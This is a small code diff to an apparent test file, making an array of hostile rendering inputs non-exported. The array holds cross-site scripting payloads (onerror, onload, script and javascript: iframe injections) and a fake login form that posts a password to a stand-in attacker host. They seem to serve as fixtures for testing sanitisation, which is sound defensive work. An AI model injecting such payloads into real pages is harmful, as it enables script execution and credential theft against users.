@@ -8,7 +8,7 @@ import { type Wish, wishesIn } from './wishes.ts'
 
 const esc = '\u001b'
 /** Words that are to run, lead astray or break the page that shows them. */
-export const hostileWords = [
+const hostileWords = [
   '# Hello <img src=x onerror="document.title=\'owned\'">',
   '<script>document.title="owned"</script><svg onload="document.title=\'owned\'"></svg>',
   '<iframe src="javascript:document.title=\'owned\'"></iframe><style>body{display:none}</style><form action="https://evil.invalid/"><input name=password></form>',
